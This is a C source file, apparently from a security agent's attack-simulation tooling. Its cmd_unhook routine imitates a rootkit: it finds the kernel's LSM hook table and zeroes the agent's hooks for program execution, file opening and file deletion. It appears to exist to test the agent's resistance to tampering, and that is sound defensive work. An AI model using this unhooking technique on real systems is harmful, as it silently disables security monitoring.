// SPDX-License-Identifier: GPL-2.0-or-later
// Copyright (C) 2026 The Ringward authors
// Removes the agent's hooks from the kernel's table of LSM hooks for good, as a rootkit would.

#include <linux/errno.h>
#include <linux/kernel.h>
#include <linux/lsm_hooks.h>
#include <linux/version.h>

#include "rwattack.h"

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 12, 0)

const char lsm_table_name[] = "security_hook_heads";
typedef struct security_hook_heads lsm_table;

/* Address of the head of the hook's list: without it all LSMs lose the hook. */
static unsigned long pointer_of(unsigned long member)
{
	return member;
}

#else

const char lsm_table_name[] = "static_calls_table";
typedef struct lsm_static_calls_table lsm_table;

/* Address of the last pointer to an LSM's hook: the agent's. */
static unsigned long pointer_of(unsigned long member)
{
	struct lsm_static_call *call = (void *)member;
	int last = MAX_LSM_COUNT - 1;

	while (last > 0 && !call[last].hl)
		last--;
	return (unsigned long)&call[last].hl;
}

#endif

int cmd_unhook(int argc, char **argv)
{
	static const struct {
		const char *name;
		size_t off;
	} members[] = {
		{ "bprm_committed_creds", offsetof(lsm_table, bprm_committed_creds) },
		{ "file_open", offsetof(lsm_table, file_open) },
		{ "path_unlink", offsetof(lsm_table, path_unlink) },
	};
	unsigned long table = symbol(lsm_table_name);
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(members); i++) {
		unsigned long va = pointer_of(table + members[i].off);
		u64 before = READ_ONCE(*(u64 *)va);
		int ret = store_zero(va);

		if (ret == -ENOMEM)
			return -EINVAL;
		say("unhook %s %s%s\n", members[i].name,
		    READ_ONCE(*(u64 *)va) == before ? "unchanged" : "changed", ret ? " exception" : "");
	}
	return 0;
}
